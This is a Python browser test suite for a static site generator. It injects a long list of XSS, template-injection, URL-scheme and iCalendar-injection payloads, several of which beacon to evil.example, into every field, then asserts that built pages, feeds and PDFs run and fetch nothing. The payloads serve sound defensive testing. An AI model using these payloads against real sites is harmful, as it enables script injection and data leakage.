"""The first lock off: hostile texts are rendered unchecked, and the built pages run and fetch nothing.

A stranger's texts stand in every field that a person fills in; no rule of `check` looks at them.
The pages are opened in Chromium twice, with their policy and without: what the policy would stop
is not there in the first place.
"""

from __future__ import annotations

import io
import json
import re
import shutil
import socket
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime
from pathlib import Path
from typing import TYPE_CHECKING, get_type_hints
from xml.etree import ElementTree

import pikepdf
import pytest
from icalendar import Calendar

from conftest import serving
from finishing import finish
from julasan import mkdocs_plugin
from julasan.files import write
from julasan.finish import making, pages
from julasan.model import Article, Asset, Event, Issue, Member, Occurrence, Output, Site, StandingPage
from julasan.problem import Problem, Source
from julasan.read import read
from julasan.read.markdown import scan
from julasan.render import prints
from julasan.render.context import Context
from julasan.render.products import expanded, render
from julasan.typeset.engine import RefusedError, pdf

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Dialog, Page, Route

pytestmark = pytest.mark.browser

SMALL = Path(__file__).resolve().parent / "sites" / "small"
DAY = date(2026, 11, 1)

RUN = "window.pwned=1;alert(1);new Image().src='https://evil.example/x'"
TEXTS = (
    f"</script><script>{RUN}</script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg/onload='{RUN}'>",
    f"</title></textarea></style><iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f'" autofocus onfocus="{RUN}" x="',
    f"]]>--><!--<script>{RUN}</script>",
    "{{ config }} {% include 'x' %} {{ 7*7 }} ${7*7} {# #} %(x)s {0}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "ก\u202eกขค\u202c \u2066x\u2069 \u200f",
    "คำยาว" * 400,
    'END:VEVENT\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR\nATTACH:https://evil.example/x;X="1",2\\',
    "\u2028\u2029\x0b\x00\ufffe",
    "*[ก](javascript:alert(1))* `` ` `` | \\ # ---",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f" JaVa\tScRiPt:{RUN}//https://",
    f"java\nscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f'https://x.example/"onmouseover="{RUN}',
    "vbscript:msgbox(1)",
    "//evil.example/x",
)
BODY = "\n\n".join(
    (
        *TEXTS[:9],
        *(f'[ก](<{address}>)\n![ก](<{address}>)\n<a href="{address}">ก</a>' for address in ADDRESSES),
        f"<script>{RUN}</script>",
        f"<div onclick='{RUN}' style='background:url(https://evil.example/x)'>ก</div>",
        "<base href='https://evil.example/'><meta http-equiv='refresh' content='0;url=https://evil.example/'>",
        "<link rel=stylesheet href='https://evil.example/x'><style>*{background:url(https://evil.example/x)}</style>",
        f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'></style></mglyph></table></math>",
        f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
        "![ก](https://evil.example/x.png) ![ก](//evil.example/x.png)",
        "<form action='https://evil.example/'><input name=q><button>ก</button></form>",
        "<object data='https://evil.example/x'></object><embed src='https://evil.example/x'>",
        f"[x]: javascript:{RUN}\n\n[ก][x] <javascript:{RUN}> <{RUN}>",
        f"## ก {{: onclick='{RUN}' }}\n\n# <img src=x onerror='{RUN}'>\n",
        f"```{{.x onclick='{RUN}'}}\n</code></pre><script>{RUN}</script>\n```\n",
        '--8<-- "/etc/passwd"\n\n[^1]\n\n[^1]: <script>alert(1)</script>\n',
        f"| <script>{RUN}</script> | ก |\n|:-:|---|\n| ก | <img src=x onerror='{RUN}'> |\n",
        f'!!! note "</p><script>{RUN}</script>"\n    ก\n',
        f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>",
        f'<details open ontoggle="{RUN}">',
        f'<video><source onerror="{RUN}"></video><marquee onstart="{RUN}">',
        f"<a href='jav&#x09;ascript:{RUN}'>x</a> <a href='&#106avascript:{RUN}'>x</a>",
        f"[x](javascript&colon;{RUN})",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
        f"<template><script>{RUN}</script></template><xmp><script>{RUN}</script></xmp>",
        f"<form><button formaction='javascript:{RUN}'>x</button></form><body onload=\"{RUN}\">",
        "<img srcset='https://evil.example/a 1x'><audio src=https://evil.example/a autoplay>",
        "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=https://evil.example>",
        f"<<script>{RUN}//<</script><scr<script>ipt>{RUN}</scr</script>ipt><script/src=https://evil.example/x.js>",
        "[a]: //evil.example/q\n\n![i][a]",
    )
)

PRINTED = re.sub(r"!\[[^\n]*|<img", "", BODY)
"""Without pictures: one from elsewhere stops the typesetter, which reads nothing but what it is handed."""


def hostile() -> Site:
    """The small site with a stranger's texts in every field; nothing of it was checked."""
    site, _ = read(SMALL, now=date(2026, 11, 22))
    count = max(len(TEXTS), len(ADDRESSES))
    bodies = [BODY, *TEXTS[1:]]
    numbers = range(count)
    articles = tuple(
        Article(
            title=text(number), date=DAY, authors=(text(number + 1), f"m-{number}"),
            province=text(number + 2), topics=(one_line(number + 3),), kind="proposal", summary=text(number),
            image=address(number),
            image_alt=text(number), series=text(0), part=number + 1, event=f"e-{number}", to=text(number),
            status="open", source=Source(f"knowledge/h-{number}.md"), permalink=f"h-{number}",
            body=scan(bodies[number % len(bodies)]),
        )
        for number in numbers
    )  # fmt: skip
    start = datetime(2026, 12, 5, 2, tzinfo=UTC)
    events = tuple(
        Event(
            id=f"e-{number}", title=text(number), start=start, end=start, place=text(number + 1),
            province=text(number), topics=(one_line(number),), organizer=text(number), url=address(number),
            registration=address(number + 1), summary=text(number), source=Source("events.yaml", number + 1),
            occurrences=(Occurrence(start, start),),
        )
        for number in numbers
    )  # fmt: skip
    members = tuple(
        Member(
            member_id=f"m-{number}", name=text(number), province=text(number), district=text(number + 1),
            role="member", expertise=(text(number),), website=address(number), consent=DAY,
            source=Source("members.csv", number + 2),
        )
        for number in numbers
    )  # fmt: skip
    standing = tuple(
        StandingPage(
            title=text(number), summary=text(number), source=Source(f"docs/p-{number}.md"), body=scan(BODY)
        )
        for number in range(2)
    )  # fmt: skip
    settings = replace(
        site.settings, hub=text(0), tagline=text(1), reply=text(2), masthead=text(0), copyright=text(0),
        topics=tuple(one_line(number) for number in numbers), provinces={text(4): "TH-52", text(0): "TH-55"},
    )  # fmt: skip
    return replace(
        site, settings=settings, articles=articles, events=events, members=members, pages=standing, issues=(),
        holidays={date(2026, 12, 5): text(0), date(2026, 12, 6): text(10)}, texts={},
    )  # fmt: skip


def text(number: int) -> str:
    return TEXTS[number % len(TEXTS)]


def one_line(number: int) -> str:
    """Of one line: topics and provinces name pages."""
    return " ".join(text(number).split())


def address(number: int) -> str:
    return ADDRESSES[number % len(ADDRESSES)]


@pytest.fixture(scope="module")
def outputs() -> list[Output]:
    return list(render(hostile()))


@pytest.fixture(scope="module")
def bare(tmp_path_factory: pytest.TempPathFactory, outputs: list[Output]) -> Path:
    """The site as it is written where nothing guards it: without a policy."""
    folder = tmp_path_factory.mktemp("bare")
    shells = mkdocs_plugin.shells(hostile(), SMALL / "mkdocs.yml")
    for path, content in making.made(hostile(), outputs, shells, None):
        write(folder / "club" / path, content)
    write(folder / "club" / making.NOT_FOUND, making.not_found(shells, None))
    return folder


@pytest.fixture(scope="module")
def finished(tmp_path_factory: pytest.TempPathFactory, bare: Path) -> tuple[Path, list[Problem]]:
    """The site with a policy in each page, and what the gates say of it."""
    folder = tmp_path_factory.mktemp("finished")
    shutil.copytree(bare / "club", folder / "club")
    return folder, finish(folder / "club", hostile())


@pytest.fixture(params=["with its policy", "without"])
def served(request: pytest.FixtureRequest, bare: Path, finished: tuple[Path, list[Problem]]) -> Iterator[str]:
    folder = bare if request.param == "without" else finished[0]
    with serving(folder / "club", "/club/") as base:
        yield base


class Watch:
    """What a page did that it must not: dialogs, requests elsewhere, breaches of its policy.

    A picture of another host is the one thing that sanitising lets stand: the policy stops it, and the
    gate refuses the build.
    """

    def __init__(self, page: Page, origin: str) -> None:
        self.page = page
        self.seen: list[str] = []
        page.on("dialog", self._dialog)
        page.on("popup", lambda popup: self.seen.append(f"popup {popup.url}"))
        page.context.route(lambda url: not url.startswith(origin), self._elsewhere)
        page.add_init_script(
            "window.breaches=[];document.addEventListener('securitypolicyviolation',"
            "e=>breaches.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample}`))"
        )

    def _dialog(self, dialog: Dialog) -> None:
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _elsewhere(self, route: Route) -> None:
        if route.request.resource_type != "image":
            self.seen.append(f"request {route.request.url}")
        route.abort()

    def found(self) -> list[str]:
        breaches = [
            breach for breach in self.page.evaluate("breaches") if not breach.startswith("img-src http")
        ]
        return self.seen + breaches + ["ran"] * bool(self.page.evaluate("window.pwned"))


LIVE = """() => [...document.querySelectorAll('*')].flatMap(element =>
  [...element.attributes].filter(({name, value}) =>
    /^on/i.test(name) || name === 'srcdoc' ||
    (/^(src|href|action|formaction|data|poster|srcset|xlink:href)$/i.test(name) && element.tagName !== 'A' &&
     /^\\s*(?:javascript|vbscript|data:text)/i.test(value.replace(/[\\t\\n\\r]/g, '')))
  ).map(({name, value}) => `<${element.tagName} ${name}=${value.slice(0, 60)}`)).concat(
  [...document.querySelectorAll('iframe,object,embed,base,form[action^=http],meta[http-equiv=refresh]')]
    .map(element => element.outerHTML.slice(0, 80)))"""


def test_no_page_runs_or_fetches_what_a_stranger_wrote(browser: Browser, served: str) -> None:
    origin = served.removesuffix("club/")
    context = browser.new_context(viewport={"width": 390, "height": 844})
    page = context.new_page()
    watch = Watch(page, origin)
    for path in PAGES:
        response = page.goto(served + path, wait_until="load")
        assert response is not None
        assert response.ok, path
        assert watch.found() == [], path
        assert page.evaluate(LIVE) == [], path
        assert len(page.title()) > 0
    context.close()


PAGES = (
    "", "knowledge/", "calendar/", "members/", "proposals/", "bulletin/", "p-0/", "p-1/", "404.html",
    *(f"k/h-{number}/" for number in range(len(TEXTS))),
    *(f"calendar/e-{number}/" for number in range(0, len(TEXTS), 2)),
    "calendar/2026-12/", "knowledge/province/th-52/", "knowledge/author/m-0/", "knowledge/kind/proposal/",
)  # fmt: skip


def runs(target: str) -> bool:
    """Whether a browser would run it (WHATWG URL, 4.4: tabs and line ends go, and what leads)."""
    return bool(re.match(r"(?i)[\x00-\x20]*(?:javascript|vbscript|data):", re.sub(r"[\t\n\r]", "", target)))


WITH_ADDRESSES = ("members/", *(f"calendar/e-{number}/" for number in range(len(ADDRESSES))))


def test_no_link_of_a_body_runs(bare: Path) -> None:
    for path in ("k/h-0", "p-0", "p-1"):
        built = pages.parse((bare / "club" / path / "index.html").read_text("utf-8"))
        assert [target for target, _ in built.links if runs(target)] == [], path


def test_no_address_of_an_event_or_member_runs_when_it_is_followed(
    browser: Browser, finished: tuple[Path, list[Problem]]
) -> None:
    with serving(finished[0] / "club", "/club/") as base:
        for path in WITH_ADDRESSES:
            page = browser.new_page()
            watch = Watch(page, base.removesuffix("club/"))
            page.goto(base + path)
            page.evaluate(
                "[...document.querySelectorAll('a[href]')]"
                ".filter(a => !/^(https?|mailto|tel|webcal):$/.test(a.protocol)).forEach(a => a.click())"
            )
            page.wait_for_timeout(100)
            assert page.url == base + path
            assert not page.evaluate("window.pwned")
            assert watch.seen == []
            page.close()


def test_pages_hold_no_address_that_runs_and_load_nothing_even_without_policy_and_gate(bare: Path) -> None:
    for path in (*(f"{path}index.html" for path in WITH_ADDRESSES), "k/h-0/index.html", "p-0/index.html"):
        built = pages.parse((bare / "club" / path).read_text("utf-8"))
        assert [target for target, _ in built.links if runs(target)] == []
        assert [target for target, _ in built.loads if "//" in target.partition("?")[0]] == []


def test_titles_stand_on_the_page_as_they_were_written(browser: Browser, served: str) -> None:
    page = browser.new_page()
    page.goto(f"{served}k/h-0/")
    assert page.inner_text("h1") == TEXTS[0]
    assert page.title().startswith(TEXTS[0])
    assert page.get_attribute('meta[property="og:title"]', "content") == TEXTS[0]
    for block in page.eval_on_selector_all(
        'script[type="application/ld+json"]', "all => all.map(s => s.text)"
    ):
        json.loads(block)
    page.goto(f"{served}k/h-6/")
    assert "{{ 7*7 }}" in page.inner_text("h1")
    page.close()


def test_search_shows_hostile_titles_as_text(browser: Browser, served: str) -> None:
    page = browser.new_page()
    watch = Watch(page, served.removesuffix("club/"))
    page.goto(served)
    page.locator("[data-jl-search] input, input[type=search]").first.fill("script alert")
    page.wait_for_timeout(1_500)
    assert watch.found() == []
    assert page.evaluate(LIVE) == []
    page.close()


def test_every_inline_script_is_ours(bare: Path) -> None:
    scripts = {
        script for file in bare.rglob("*.html") for script in pages.parse(file.read_text("utf-8")).scripts
    }
    assert len(scripts) == 1, scripts
    assert "julasan.scheme" in scripts.pop()


def test_feeds_and_sitemap_parse_and_hold_text_alone(bare: Path) -> None:
    for file in [*bare.rglob("*.xml")]:
        root = ElementTree.fromstring(file.read_bytes())  # noqa: S314 - our own output
        names = {element.tag.rpartition("}")[2] for element in root.iter()}
        assert not names & {"script", "img", "iframe"}, file.name
        for element in root.iter():
            for value in (element.get("href") or "", element.get("src") or ""):
                assert not re.match(r"(?i)\s*(?:java|vbs|data:)", value)
            if element.get("type") == "html":
                assert not re.search(
                    r"(?i)<(?:script|iframe|svg|style|form)|<[^>]*\son\w+\s*=", element.text or ""
                )
    for file in [*bare.rglob("*.json")]:
        found = json.loads(file.read_text("utf-8"))
        feed = isinstance(found, dict) and "jsonfeed" in str(found.get("version"))
        for item in found["items"] if feed else []:
            assert not re.search(
                r"(?i)<(?:script|iframe|svg|style|form)|<[^>]*\son\w+\s*=", item["content_html"]
            )


def test_calendars_hold_their_events_and_no_line_more(bare: Path) -> None:
    files = [*bare.rglob("*.ics")]
    assert files
    for file in files:
        content = file.read_bytes().decode()
        assert content.count("BEGIN:VCALENDAR") == len(
            re.findall(r"^BEGIN:VCALENDAR\r$", content, re.MULTILINE)
        ) or ("ATTACH" in content)
        calendar = Calendar.from_ical(content)
        for event in calendar.walk("VEVENT"):
            assert "ATTACH" not in event
            assert not re.match(r"(?i)\s*(?:java|vbs|data:)", str(event.get("URL", "")))
        lines = re.sub(r"\r\n[ \t]", "", content).split("\r\n")
        assert sum(line == "BEGIN:VCALENDAR" for line in lines) == 1
        assert not [line for line in lines if "\n" in line or "\r" in line]


def test_every_text_field_of_the_model_was_hostile() -> None:
    """A new field is one line in the model: it must be hostile here too."""
    site = hostile()
    for record, left_out in (
        (site.articles[0], {"permalink", "slug", "digest"}),
        (site.events[0], {"id", "timezone", "rrule"}),
        (site.members[0], {"member_id"}),
        (site.pages[0], set()),
    ):
        for name, hint in get_type_hints(type(record)).items():
            if name not in left_out and hint in (str, str | None):
                assert getattr(record, name), f"{type(record).__name__}.{name}"


def test_a_printed_issue_runs_nothing_and_opens_no_socket(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    opened: list[object] = []
    monkeypatch.setattr(socket.socket, "connect", lambda _self, where: opened.append(where))
    whole = hostile()
    issue = Issue(
        number=1, date=DAY, title=text(0), editor=text(1), sms=text(2), line=text(3),
        source=Source("docs/bulletin/2026-11.md"), month="2026-11", body=scan(PRINTED),
    )  # fmt: skip
    articles = tuple(replace(article, image=None, body=scan("ก")) for article in whole.articles[:1])
    site = replace(
        whole, root=str(tmp_path), issues=(issue,), articles=articles, events=whole.events[:2], media=()
    )
    made = [output for output in expanded(prints.render(Context(site))) if isinstance(output, Asset)]
    assert made
    for output in made:
        with pikepdf.open(io.BytesIO(output.content)) as opened_pdf:
            for thing in opened_pdf.objects:
                if isinstance(thing, pikepdf.Dictionary):
                    assert not set(thing.keys()) & {"/JS", "/AA", "/Launch", "/EmbeddedFiles"}
                    # A file outside; in an annotation, its flags (ISO 32000-2, 12.5.3).
                    assert isinstance(thing.get("/F", 0), int)
                    assert not runs(str(thing.get("/URI", "")))
                    assert (
                        "evil.example" not in str(thing.get("/URI", "")).partition("?")[0].partition("'")[0]
                    )
    with pytest.raises(RefusedError):
        pdf('<img alt="ก" src="https://evil.example/x.png">', title="ก", language="th", created=DAY)
    assert opened == []
